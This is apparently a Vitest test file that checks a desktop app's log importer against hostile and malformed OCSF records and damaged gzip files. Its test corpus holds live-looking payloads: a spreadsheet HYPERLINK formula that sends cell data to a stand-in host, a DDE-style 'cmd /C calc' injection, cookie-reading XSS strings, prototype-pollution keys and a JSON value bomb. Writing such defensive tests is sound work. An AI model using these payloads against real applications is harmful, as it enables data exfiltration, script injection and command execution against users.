import { writeFileSync } from 'node:fs';
import { constants as zlibConstants, gunzipSync, gzipSync } from 'node:zlib';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gzipTrailingNote, importFile } from '../../../../../electron/core/ingest/import-file';
import { listQuarantine } from '../../../../../electron/core/ingest/quarantine';
import { createPipelineVault, expectReconciled, NOW, ocsfLines, type PipelineVault } from './pipeline-fixture';

const ROOT = path.resolve(__dirname, '../../../../..');
const PARSE_WORKER = path.join(ROOT, 'out/node/ingest-worker.js');
beforeAll(() => {
  execFileSync(process.execPath, [path.join(ROOT, 'build/scripts/build.mjs'), '--node', '--quiet'], { cwd: ROOT, stdio: 'inherit' });
}, 120_000);

let vault: PipelineVault;
beforeAll(() => {
  vault = createPipelineVault();
});
afterAll(() => vault.cleanup());

const base = {
  class_uid: 3002,
  activity_id: 1,
  time: Date.UTC(2026, 9, 1, 8),
  status_id: 1,
  severity_id: 1,
  metadata: { product: { name: 'Hostile', vendor_name: 'Tests' }, version: '1.1.0' },
};
const json = (o: object): Buffer => Buffer.from(JSON.stringify(o), 'utf8');
const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Open")';
const HTML = '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>';

/** Each hostile record with a label; the import must account for every one and never throw. */
function corpus(): { label: string; bytes: Buffer }[] {
  return [
    { label: 'valid', bytes: json({ ...base, message: 'ok' }) },
    { label: 'invalid UTF-8', bytes: Buffer.concat([Buffer.from('{"class_uid":3002,"activity_id":1,"time":1790000000000,"status_id":1,"severity_id":1,"message":"bad '), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('","metadata":{"product":{"name":"x"}}}')]) },
    { label: 'NUL inside', bytes: Buffer.concat([Buffer.from('{"class_uid":3002,"activity_id":1,"time":1790000000001,"status_id":1,"severity_id":1,"message":"a'), Buffer.from([0]), Buffer.from('b","metadata":{"product":{"name":"x"}}}')]) },
    { label: 'escaped NUL', bytes: json({ ...base, time: base.time + 2, message: 'a\u0000b' }) },
    { label: '10 MB line', bytes: json({ ...base, time: base.time + 3, message: 'A'.repeat(10 * 1024 * 1024) }) },
    { label: '10k nesting', bytes: Buffer.from('['.repeat(10_000) + ']'.repeat(10_000)) },
    { label: '10k object nesting', bytes: Buffer.from('{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000)) },
    { label: 'wrong types', bytes: json({ ...base, class_uid: 'three', time: 'yesterday', status_id: [1], actor: { user: { name: { x: 1 } } } }) },
    { label: 'absurd time (far future)', bytes: json({ ...base, time: 1e20 }) },
    { label: 'absurd time (negative)', bytes: json({ ...base, time: -8.64e15 - 1 }) },
    { label: 'absurd time (NaN-ish string)', bytes: json({ ...base, time: 'NaN' }) },
    { label: 'formula payload', bytes: json({ ...base, time: base.time + 4, message: FORMULA, actor: { user: { name: '@SUM(1+1)*cmd|" /C calc"!A0' } } }) },
    { label: 'HTML payload', bytes: json({ ...base, time: base.time + 5, message: HTML, src_endpoint: { ip: '"><svg onload=alert(1)>' } }) },
    { label: 'not JSON', bytes: Buffer.from('this is not json {') },
    { label: 'JSON scalar', bytes: Buffer.from('42') },
    { label: 'empty object', bytes: Buffer.from('{}') },
    { label: 'huge number', bytes: Buffer.from('{"class_uid":3002,"time":1e400}') },
    { label: 'prototype keys', bytes: Buffer.from('{"__proto__":{"polluted":1},"constructor":{"prototype":{"x":1}},"class_uid":3002,"activity_id":1,"time":1790000000009,"status_id":1,"severity_id":1,"metadata":{"product":{"name":"x"}}}') },
    { label: 'control characters', bytes: json({ ...base, time: base.time + 6, message: '\u001b[31mred\u001b[0m\u202e\u0007' }) },
  ];
}

describe('hostile corpus', () => {
  it('accounts for every record, stores what is accepted verbatim, and keeps the bytes of what is refused', async () => {
    const records = corpus();
    const file = vault.input('hostile.jsonl');
    // BOM at the start, CRLF endings, a blank line in the middle.
    const body = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), ...records.flatMap((r, i) => [r.bytes, Buffer.from(i === 3 ? '\r\n\r\n' : '\r\n')])]);
    writeFileSync(file, body);
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
    expectReconciled(vault.db, s);
    expect(s.read).toBe(records.length);
    expect(s.imported).toBeGreaterThanOrEqual(1);
    expect(s.quarantined).toBeGreaterThanOrEqual(6);
    expect(Object.prototype).not.toHaveProperty('polluted');

    // Every stored raw is exactly one of the records (no CR, no BOM); refused ones are in quarantine with their bytes.
    const rawOf = new Map(records.map((r) => [r.bytes.toString('base64'), r.label]));
    const stored = vault.db.prepare('SELECT raw, event FROM events WHERE batch_id = ?').all(s.batchId) as { raw: Buffer; event: string }[];
    for (const e of stored) expect(rawOf.has(e.raw.toString('base64'))).toBe(true);
    const quarantined = listQuarantine(vault.db, { batchId: s.batchId!, limit: 100 }).rows;
    for (const q of quarantined) {
      const full = vault.db.prepare('SELECT raw FROM quarantine WHERE id = ?').get(q.id) as { raw: Buffer };
      expect(rawOf.has(full.raw.toString('base64'))).toBe(true);
      expect(q.reason.length).toBeGreaterThan(0);
      expect(q.line).toBeGreaterThan(0);
    }
    const labels = new Set([...stored.map((e) => rawOf.get(e.raw.toString('base64'))), ...quarantined.map((q) => rawOf.get(Buffer.from(q.rawBase64, 'base64').toString('base64')))]);
    // the 10 MB record is listed truncated; everything else is found by its exact bytes
    expect(labels.size + (labels.has('10 MB line') ? 0 : 1)).toBe(records.length);

    // Formula and HTML payloads, when accepted, are stored and returned verbatim (rendered as text by the UI).
    for (const e of stored) {
      const ev = JSON.parse(e.event) as { message?: string };
      if (ev.message?.startsWith('=HYPERLINK')) expect(ev.message).toBe(FORMULA);
      if (ev.message?.startsWith('<script>')) expect(ev.message).toBe(HTML);
    }
    expect(stored.some((e) => e.event.includes('=HYPERLINK'))).toBe(true);
    expect(stored.some((e) => e.event.includes('<script>'))).toBe(true);

    // Line numbers count the blank line, as an editor does.
    const nesting = quarantined.find((q) => q.rawText.startsWith('[[[['));
    expect(nesting?.line).toBe(7);
  });

  it('an oversized (17 MiB) line is quarantined with its first bytes and the import goes on', async () => {
    const file = vault.input('oversize.jsonl');
    const big = Buffer.alloc(17 * 1024 * 1024, 0x41);
    writeFileSync(file, Buffer.concat([json({ ...base, time: base.time + 100 }), Buffer.from('\n'), big, Buffer.from('\n'), json({ ...base, time: base.time + 101 }), Buffer.from('\n')]));
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ read: 3, imported: 2, quarantined: 1 });
    const q = listQuarantine(vault.db, { batchId: s.batchId!, limit: 10 }).rows[0]!;
    expect(q.line).toBe(2);
    expect(q.reason).toMatch(/16 MiB/);
  });

  it('a record of millions of tiny values is quarantined before it reaches the parse thread\'s heap', async () => {
    // 15 MiB of `[],` (under the 16 MiB record limit) is five million arrays: JSON.parse of it took the parse
    // thread past its heap limit and the whole file imported nothing, again on every re-run.
    const bomb = `{"class_uid":3002,"time":${base.time},"x":[${'[],'.repeat(5 * 1024 * 1024)}[]]}`;
    const file = vault.input('value-bomb.jsonl');
    writeFileSync(file, ocsfLines(200, 700_000) + bomb + '\n' + ocsfLines(200, 700_200));
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf', parseThreadScript: PARSE_WORKER });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ read: 401, imported: 400, quarantined: 1, error: null });
    const q = listQuarantine(vault.db, { batchId: s.batchId!, limit: 10 }).rows[0]!;
    expect(q.line).toBe(201);
    expect(q.reason).toMatch(/more than 200,000 values/);
  }, 60_000);

  it('a JSON Lines file whose first line has garbage after its value quarantines that whole line', async () => {
    // The first line alone used to decide the layout: a value followed by garbage read as a document,
    // so the value was imported and only the garbage quarantined (read 6 for a 4-line file).
    const [a, b, c, d] = ocsfLines(4, 800_000).trimEnd().split('\n');
    const file = vault.input('trailing-garbage.jsonl');
    writeFileSync(file, `${a} garbage\n${b}\n${c}}\n${d}\n`);
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ format: 'ocsf', read: 4, imported: 2, quarantined: 2 });
    const rows = listQuarantine(vault.db, { batchId: s.batchId!, limit: 10 }).rows;
    expect(rows.map((r) => [r.line, r.rawText])).toEqual([[1, `${a} garbage`], [3, `${c}}`]]);
  });

  it('binary garbage and truncated gzip never crash the importer', async () => {
    const garbage = vault.input('garbage.jsonl');
    const bytes = Buffer.alloc(256 * 1024);
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) & 255;
    writeFileSync(garbage, Buffer.concat([Buffer.from('{"class_uid":3002}\n'), bytes]));
    const s1 = await importFile(vault.db, { path: garbage }, { operator: 'o', now: NOW, format: 'ocsf' });
    expect(s1.read).toBe(s1.imported + s1.duplicates + s1.quarantined);
    const gz = vault.input('cut.jsonl.gz');
    writeFileSync(gz, Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0xab, 0x56]));
    const s2 = await importFile(vault.db, { path: gz }, { operator: 'o', now: NOW, format: 'ocsf' });
    expect(s2.read).toBe(s2.imported + s2.duplicates + s2.quarantined);
  });

  it.each([false, true])('a gzip followed by bytes that are not gzip imports every record and tells of the bytes (parse thread: %s)', async (threaded) => {
    // Node's gunzip failed at the junk and dropped what it had inflated from the last read: the probe's
    // 1,000-line file imported 543 records and was reported NOT IMPORTED.
    const base = threaded ? 600_000 : 650_000; // the vault is shared by the corpus: other records each time
    const lines = ocsfLines(3_000, base);
    const file = vault.input(`junk-${threaded}.jsonl.gz`);
    writeFileSync(file, Buffer.concat([gzipSync(Buffer.from(lines)), gzipSync(Buffer.from(ocsfLines(10, base + 10_000))), Buffer.from('TRAILING GARBAGE\n')]));
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf', ...(threaded ? { parseThreadScript: PARSE_WORKER } : {}) });
    expectReconciled(vault.db, s);
    expect(s).toMatchObject({ error: null, read: 3_010, imported: 3_010 });
    expect(s.notes).toContain(gzipTrailingNote(17));
  });

  it.each([false, true])('imports none of a gzip member that fails its integrity check, and all of those before it (parse thread: %s)', async (threaded) => {
    const base = threaded ? 900_000 : 950_000;
    const good = gzipSync(Buffer.from(ocsfLines(2_000, base)));
    // Stored (level 0), so a changed byte decodes silently to another record: only the CRC-32 tells.
    const altered = Buffer.from(gzipSync(Buffer.from(ocsfLines(50, base + 10_000)), { level: 0 }));
    const at = altered.indexOf('"uid"') + 8;
    altered.writeUInt8(altered.readUInt8(at) ^ 0x01, at);
    const brokenDeflate = Buffer.from(gzipSync(Buffer.from(ocsfLines(50, base + 20_000))));
    brokenDeflate.writeUInt8(brokenDeflate.readUInt8(30) ^ 0xff, 30);
    for (const [label, second] of [['crc', altered], ['deflate', brokenDeflate]] as const) {
      const file = vault.input(`damaged-${label}-${threaded}.jsonl.gz`);
      writeFileSync(file, Buffer.concat([good, second]));
      const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf', ...(threaded ? { parseThreadScript: PARSE_WORKER } : {}) });
      expect(s.error, label).toMatch(/member 2 fails its integrity check: none of its records were imported/);
      expectReconciled(vault.db, s, { allowError: true });
      expect(s.read, label).toBe(2_000);
    }
  });

  it('refuses a gzip whose first member is damaged, importing nothing of it', async () => {
    const damaged = Buffer.from(gzipSync(Buffer.from(ocsfLines(100, 990_000)), { level: 0 }));
    damaged.writeUInt8(damaged.readUInt8(damaged.length - 9) ^ 0x01, damaged.length - 9);
    const file = vault.input('damaged-first.jsonl.gz');
    writeFileSync(file, damaged);
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW, format: 'ocsf' });
    expect(s).toMatchObject({ read: 0, imported: 0, batchId: null });
    expect(s.error).toMatch(/its first gzip member fails its integrity check/);
  });

  it('keeps the records before a break that falls within the first 64 KiB (format detection read past it)', async () => {
    const file = vault.input('small-cut.jsonl.gz');
    const second = gzipSync(Buffer.from(ocsfLines(100, 995_000)));
    writeFileSync(file, Buffer.concat([gzipSync(Buffer.from(ocsfLines(40, 996_000))), second.subarray(0, second.length >> 1)]));
    const s = await importFile(vault.db, { path: file }, { operator: 'o', now: NOW });
    expect(s.error).toMatch(/the file ends inside its gzip member 2/);
    expectReconciled(vault.db, s, { allowError: true });
    expect(s.read).toBeGreaterThanOrEqual(40);
    expect(s.imported).toBeGreaterThanOrEqual(40);
  });

  it.each([false, true])('a gzip cut part-way keeps and counts every record read before the cut (parse thread: %s)', async (threaded) => {
    const lines = ocsfLines(20_000, 500_000);
    const whole = gzipSync(Buffer.from(lines));
    const cut = whole.subarray(0, Math.floor(whole.length * 0.6));
    const file = vault.input(`cut-${threaded}.jsonl.gz`);
    writeFileSync(file, cut);
    // What an independent decoder can still read from the cut file: its complete lines.
    const decodable = gunzipSync(cut, { finishFlush: zlibConstants.Z_SYNC_FLUSH }).toString('utf8');
    const completeLines = decodable.split('\n').length - 1;
    expect(completeLines).toBeGreaterThan(5_000);
    const s = await importFile(vault.db, { path: file }, {
      operator: 'o', now: NOW, format: 'ocsf', chunkEvents: 50_000, // one chunk: nothing would be committed before the cut
      ...(threaded ? { parseThreadScript: PARSE_WORKER } : {}),
    });
    expect(s.error).toMatch(/gzip|compress|truncat|unexpected end/i);
    expectReconciled(vault.db, s, { allowError: true });
    // Every complete line before the cut is accounted for (the cut line itself may be partial).
    expect(s.read).toBeGreaterThanOrEqual(completeLines - 1);
    expect(s.read).toBeLessThanOrEqual(completeLines + 1);
  });
});
